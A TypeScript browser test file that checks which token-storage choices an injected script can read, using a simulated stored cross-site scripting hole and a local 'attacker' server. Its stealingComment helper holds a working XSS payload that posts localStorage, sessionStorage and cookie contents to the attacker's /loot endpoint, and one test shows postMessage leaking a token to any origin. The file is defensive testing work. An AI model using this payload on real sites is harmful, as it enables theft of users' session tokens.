// What the rules about token storage claim, tried in a real browser: what can a script that an attacker
// got into the page read? The page has a stored cross-site scripting hole, the script is not the page's own.
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { Browser, BrowserContext } from 'playwright-core';
import { launchBrowser } from './browser.ts';
import { serve } from './site.ts';
import type { Site } from './site.ts';

const TOKEN = 'header.payload.signature';

/** What the injected markup runs: it sends everything that it can read to the attacker's server. */
function stealingComment(attacker: string): string {
  const loot =
    'JSON.stringify({ local: localStorage.getItem("token"), session: sessionStorage.getItem("token"), cookie: document.cookie })';
  return `<img src="x" onerror='fetch("${attacker}/loot", { method: "POST", mode: "no-cors", body: ${loot} })'>`;
}

interface Loot {
  readonly local: string | null;
  readonly session: string | null;
  readonly cookie: string;
}

let browser: Browser;
let context: BrowserContext;
let attacker: Site;
let stolen: (loot: Loot) => void;
/** How the application hands out the token; set by each test. */
let login: { readonly cookie?: string; readonly script?: string };
let cookiesReceived: string | undefined;
let shop: Site;

beforeAll(async () => {
  browser = await launchBrowser();
  attacker = await serve((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString()));
    request.on('end', () => {
      response.end();
      if (body !== '') stolen(JSON.parse(body) as Loot);
    });
  });
  shop = await serve((request, response) => {
    response.setHeader('content-type', 'text/html');
    if (request.url === '/login') {
      if (login.cookie !== undefined) response.setHeader('set-cookie', login.cookie);
      response.end(`<script>${login.script ?? ''}</script>`);
    } else if (request.url === '/comments') {
      cookiesReceived = request.headers.cookie;
      response.end(stealingComment(attacker.origin));
    } else {
      response.writeHead(404).end();
    }
  });
});

afterAll(async () => {
  await browser.close();
  await shop.close();
  await attacker.close();
});

beforeEach(async () => {
  context = await browser.newContext();
  cookiesReceived = undefined;
  return () => context.close();
});

async function attack(how: typeof login): Promise<Loot> {
  login = how;
  const loot = new Promise<Loot>((resolve) => (stolen = resolve));
  const page = await context.newPage();
  await page.goto(`${shop.origin}/login`);
  await page.goto(`${shop.origin}/comments`);
  return loot;
}

describe('a script injected into the page', () => {
  test('reads a token in localStorage (token-in-local-storage)', async () => {
    expect(await attack({ script: `localStorage.setItem('token', '${TOKEN}')` })).toEqual({ local: TOKEN, session: null, cookie: '' });
  });

  test('reads a token in a store that a library keeps, as zustand writes it (token-in-persisted-store)', async () => {
    const state = JSON.stringify({ state: { accessToken: TOKEN, theme: 'light' }, version: 0 });
    const { local } = await attack({ script: `localStorage.setItem('token', ${JSON.stringify(state)})` });
    expect(local).toContain(TOKEN);
  });

  test('reads a token in sessionStorage (token-in-session-storage)', async () => {
    expect(await attack({ script: `sessionStorage.setItem('token', '${TOKEN}')` })).toEqual({ local: null, session: TOKEN, cookie: '' });
  });

  test('reads a cookie that the page wrote itself (token-in-js-readable-cookie)', async () => {
    expect(await attack({ script: `document.cookie = 'token=${TOKEN}'` })).toEqual({
      local: null,
      session: null,
      cookie: `token=${TOKEN}`,
    });
  });

  test('reads a cookie set without HttpOnly (cookie-missing-httponly)', async () => {
    expect(await attack({ cookie: `token=${TOKEN}` })).toEqual({ local: null, session: null, cookie: `token=${TOKEN}` });
  });

  test('reads nothing of an HttpOnly cookie, which the server still receives', async () => {
    expect(await attack({ cookie: `token=${TOKEN}; HttpOnly; SameSite=Lax` })).toEqual({ local: null, session: null, cookie: '' });
    expect(cookiesReceived).toBe(`token=${TOKEN}`);
  });

  test('cannot make the page write an HttpOnly cookie', async () => {
    await attack({ script: `document.cookie = 'token=${TOKEN}; HttpOnly'` });
    expect(cookiesReceived).toBeUndefined();
  });
});

describe('a page of the attacker that opens the login', () => {
  const received = async (target: string): Promise<unknown> => {
    login = { script: `window.opener.postMessage({ accessToken: '${TOKEN}' }, ${target}); window.opener.postMessage('done', '*')` };
    const page = await context.newPage();
    await page.goto(`${attacker.origin}/`);
    return page.evaluate(`new Promise((resolve) => {
      const messages = [];
      addEventListener('message', ({ data }) => (data === 'done' ? resolve(messages) : messages.push(data)));
      open('${shop.origin}/login');
    })`);
  };

  test('is posted the token where the target is a star (token-postmessage-any-origin)', async () => {
    expect(await received("'*'")).toEqual([{ accessToken: TOKEN }]);
  });

  test('is posted nothing where another origin is named', async () => {
    expect(await received("'https://app.example.com'")).toEqual([]);
  });
});

describe('where the token lives on', () => {
  test('localStorage outlives the tab, sessionStorage does not', async () => {
    login = { script: `localStorage.setItem('token', '${TOKEN}'); sessionStorage.setItem('token', '${TOKEN}')` };
    const first = await context.newPage();
    await first.goto(`${shop.origin}/login`);
    await first.close();
    const second = await context.newPage();
    login = {};
    await second.goto(`${shop.origin}/login`);
    expect(await second.evaluate("[localStorage.getItem('token'), sessionStorage.getItem('token')]")).toEqual([TOKEN, null]);
  });
});
